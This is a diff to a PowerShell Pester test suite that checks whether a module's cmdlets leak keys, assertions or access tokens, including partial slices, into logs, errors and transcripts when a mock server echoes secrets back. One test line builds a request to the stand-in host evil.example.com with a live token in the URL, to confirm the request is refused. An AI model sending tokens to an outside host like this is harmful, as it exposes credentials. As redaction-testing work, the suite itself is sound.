@@ -1,10 +1,12 @@
 # Secrets never leak. Every cmdlet's success and failure paths run with -Verbose -Debug and InformationPreference
-# Continue: a bad key, 1201047, 401 after a revocation, a server that echoes the request back in its error body, timeouts,
-# redirects, a broken connection. The key text, every assertion and every access token are then looked for in everything
-# a script or a log could keep: every stream, the -ErrorVariable, -WarningVariable and -InformationVariable lists, $Error
-# formatted with Format-List * -Force down to the innermost exception, ConvertTo-Json of each output object and error
-# record, and the transcript of the same run in a fresh PowerShell started with Start-Transcript. The one object that
-# carries an assertion in the open, the HyprClientAssertion New-HyprClientAssertion returns, is kept aside and not searched.
+# Continue: a bad key, 1201047, 401 after a revocation, a server that echoes the request back in its error body (whole,
+# or slices from the middle and the end of the assertion and the tokens), timeouts, redirects, a broken connection. The
+# key text, every assertion and every access token, and any 19 or more of their characters in a row, are then looked for
+# in everything a script or a log could keep: every stream, the -ErrorVariable, -WarningVariable and -InformationVariable
+# lists, $Error formatted with Format-List * -Force down to the innermost exception, ConvertTo-Json of each output object
+# and error record, and the transcript of the same run in a fresh PowerShell started with Start-Transcript. The one object
+# that carries an assertion in the open, the HyprClientAssertion New-HyprClientAssertion returns, is kept aside and not
+# searched.
 BeforeAll {
     Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
     $script:manifest = Get-HyprModuleManifest
@@ -55,6 +57,13 @@ BeforeAll {
             @{ errorMessage =
                 "request was: $form; Authorization: Bearer $($tokens -join ', Bearer '); tokens $($tokens -join ' ') assertion $Assertion" } |
                 ConvertTo-Json -Compress
+        }
+
+        # An error body that echoes slices of what was sent (and of the live token): from their middle and their end, none
+        # of them shaped like a token or a JWT, so only the redaction of any slice of a sent or live secret can catch them.
+        function Get-SliceEchoBody([string[]] $Values) {
+            $slices = foreach ($value in $Values) { "...$($value.Substring(10, 24))... ending ...$($value.Substring($value.Length - 20))" }
+            @{ errorMessage = "request was: $($slices -join '; ')" } | ConvertTo-Json -Compress
         }
 
         & $run 'New-HyprClientAssertion: signs (string, SecureString, PEM file, -OutFile, a long lifetime)' {
@@ -194,6 +203,14 @@ BeforeAll {
             Step { Invoke-HyprApi -Path '/rp/api/echo/reset' -MaximumRetryCount 0 }
         }
 
+        & $run 'Get-HyprAccessToken and Invoke-HyprApi: a server that echoes slices of the assertion or token sent and of the live token' {
+            # The token endpoint was sent the assertion and never the token: the token's slices are found as a live secret.
+            Add-Fault @{ route = 'token'; kind = 'status'; status = 500; body = (Get-SliceEchoBody $s.echoAssertion.Jwt, $s.token) }
+            Step { Get-HyprAccessToken -TenantUri $tenant -Assertion $s.echoAssertion -Force -MaximumRetryCount 0 }
+            Add-Fault @{ route = 'api'; kind = 'status'; status = 500; body = (Get-SliceEchoBody $s.token) }
+            Step { Invoke-HyprApi -Path '/rp/api/echo/echoing-slices' -MaximumRetryCount 0 }
+        }
+
         & $run 'Invoke-HyprApi: refused before sending (an Authorization header, another host, a wrong key)' {
             Step { Invoke-HyprApi -Path '/rp/api/echo' -Headers @{ Authorization = "Bearer $($s.token)" } }
             Step { Invoke-HyprApi -Path "https://evil.example.com/rp/api/echo?token=$($s.token)" }
@@ -271,6 +288,12 @@ BeforeAll {
                 $secrets["assertion $n (signature)"] = $parts[2]
             }
         }
+        # Slices from anywhere in them: the 16 characters (the shortest run the redactor removes) at every fourth offset
+        # find any run of 19 or more, wherever it starts. One regex: hundreds of Contains calls per text would be slow.
+        $slices = foreach ($value in ($Values | Where-Object { $_ } | ForEach-Object { $_.Trim() } | Sort-Object -Unique)) {
+            for ($start = 0; $start + 16 -le $value.Length; $start += 4) { [regex]::Escape($value.Substring($start, 16)) }
+        }
+        $secrets['a slice (19 characters or more) of a token or an assertion'] = [regex]::new(($slices | Sort-Object -Unique) -join '|')
         return $secrets
     }
 
@@ -285,7 +308,8 @@ BeforeAll {
     function Find-Leak([string] $Text, [string] $Where, [System.Collections.IDictionary] $Secrets) {
         if ([string]::IsNullOrEmpty($Text)) { return }
         foreach ($entry in $Secrets.GetEnumerator()) {
-            if ($entry.Value -and $Text.Contains([string]$entry.Value)) { "$($entry.Key) in $Where" }
+            $found = if ($entry.Value -is [regex]) { $entry.Value.IsMatch($Text) } else { $entry.Value -and $Text.Contains([string]$entry.Value) }
+            if ($found) { "$($entry.Key) in $Where" }
         }
         foreach ($entry in $leakPatterns.GetEnumerator()) {
             if ($Text -match $entry.Value) { "$($entry.Key) in $Where" }
@@ -512,7 +536,7 @@ AfterAll {
 
 Describe 'The runs exercised what they claim' {
     It 'ran every scenario here, and read back real tokens and assertions' {
-        $scenariosRun.Count | Should -Be 14
+        $scenariosRun.Count | Should -Be 15
         $tokensHere.Count |
             Should -BeGreaterOrEqual 4 -Because 'the exchange, -Force, the 429 retry, the ready assertion and the renewal each gave a token'
         $tokensHere | ForEach-Object { $_ | Should -Match '^hypap-[0-9a-f-]{36}$' }
@@ -541,7 +565,13 @@ Describe 'The runs exercised what they claim' {
     }
 
     It 'the server really echoed the assertion and the tokens (the emulator counted the faults)' {
-        (Get-EmulatorCounters $emulator).faultsServed | Should -Be 32 -Because 'each run met 16 faults'
+        (Get-EmulatorCounters $emulator).faultsServed | Should -Be 36 -Because 'each run met 18 faults'
+    }
+
+    It 'showed the server''s messages that echoed slices, with each slice redacted' {
+        $messages = @($captured | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] } | ForEach-Object { "$_" } |
+            Where-Object { $_ -match 'request was: \.\.\.\[redacted\]\.\.\. ending \.\.\.\[redacted\]' })
+        $messages.Count | Should -Be 2 -Because 'the token endpoint and the API each echoed slices once'
     }
 
     It 'ran again in a fresh PowerShell inside Start-Transcript, through the same failures' {
@@ -613,6 +643,8 @@ Describe 'Secrets never leak' {
         @(Find-Leak $planted 'a planted message' $secretsHereMap).Count | Should -BeGreaterThan 0
         @(Find-Leak "key $($clientHere.clientKey.Substring(60, 12)) part" 'a planted key part' $secretsHereMap).Count | Should -BeGreaterThan 0
         @(Find-Leak "jwt $($assertionsHere[0])" 'a planted assertion' $secretsHereMap).Count | Should -BeGreaterThan 0
+        @(Find-Leak "slice ...$($assertionsHere[0].Substring(41, 19))..." 'a planted assertion slice' $secretsHereMap).Count | Should -BeGreaterThan 0
+        @(Find-Leak "slice ...$($tokensHere[0].Substring(13, 19))..." 'a planted token slice' $secretsHereMap).Count | Should -BeGreaterThan 0
     }
 }
 
